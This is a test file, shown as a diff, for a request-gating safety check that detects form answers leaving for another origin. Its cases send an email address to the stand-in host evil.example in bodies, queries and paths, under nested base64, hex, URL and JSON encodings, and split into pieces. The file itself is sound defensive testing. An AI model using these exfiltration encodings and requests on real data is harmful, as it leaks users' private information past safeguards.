@@ -1,0 +1,77 @@
+import fc from 'fast-check';
+import { expect, it } from 'vitest';
+import type { GatedRequest } from '@/safety/requests/gated-request';
+import { judgeFill } from '@/safety/requests/judge-fill';
+
+const site = 'https://jobs.example.org';
+const answer = 'ada.lovelace@example.org';
+
+const bytesOf = (text: string) => new TextEncoder().encode(text);
+const base64 = (text: string) => Buffer.from(text).toString('base64');
+
+/** Ways in which a page may write a text; one may be within another. */
+const ways: readonly ((text: string) => string)[] = [
+  (text) => text,
+  encodeURIComponent,
+  base64,
+  (text) => Buffer.from(text).toString('base64url'),
+  (text) => Buffer.from(bytesOf(text)).toString('hex'),
+  (text) => JSON.stringify({ a: { b: [text] } }),
+  (text) => JSON.stringify(JSON.stringify({ text })),
+  (text) => String(new URLSearchParams({ text })),
+  (text) => text.replaceAll(/./gsu, (letter) => `%${letter.charCodeAt(0).toString(16).padStart(2, '0')}`),
+];
+
+const request = (url: string, body: string, resourceType: string): GatedRequest => ({
+  method: body === '' ? 'GET' : 'POST',
+  url,
+  body,
+  isBodyWhole: true,
+  resourceType,
+  headers: {},
+  frameOrigin: site,
+  cause: 'other',
+});
+
+function aJudge() {
+  const judge = judgeFill();
+  judge.setOrigin(site);
+  judge.addAnswer(answer, true);
+  return judge;
+}
+
+const way = fc.constantFrom(...ways);
+const writing = fc.constantFrom<(text: string) => string>(...ways, (text) => text.toUpperCase());
+const kind = fc.constantFrom('Fetch', 'Image', 'Script', 'Ping', 'Font', 'Other');
+
+it('finds an answer on its way to another origin, in a body, a query or a path, written in two ways, one within the other', () => {
+  fc.assert(
+    fc.property(writing, way, kind, (inner, outer, type) => {
+      const text = outer(inner(answer));
+      const judge = aJudge();
+      expect(judge.isHeld(request('https://evil.example/c', text, type))).toBe(true);
+      expect(judge.isHeld(request(`https://evil.example/c?d=${encodeURIComponent(text)}`, '', type))).toBe(true);
+      expect(judge.isHeld(request(`https://evil.example/${encodeURIComponent(text)}`, '', type))).toBe(true);
+    }),
+  );
+});
+
+it('finds one that is taken apart', () => {
+  const inside = fc.integer({ min: 1, max: answer.length - 1 });
+  fc.assert(
+    fc.property(inside, inside, (one, other) => {
+      const [first, second] = [Math.min(one, other), Math.max(one, other)];
+      const parts = { a: answer.slice(0, first), b: answer.slice(first, second), c: answer.slice(second) };
+      const url = `https://evil.example/?${new URLSearchParams(parts)}`;
+      expect(aJudge().isHeld(request(url, '', 'Image'))).toBe(true);
+    }),
+  );
+});
+
+it('lets pass what has no answer', () => {
+  fc.assert(
+    fc.property(fc.webUrl(), fc.string(), (url, body) => {
+      expect(aJudge().isHeld(request(url, body, 'Ping'))).toBe(false);
+    }),
+  );
+});
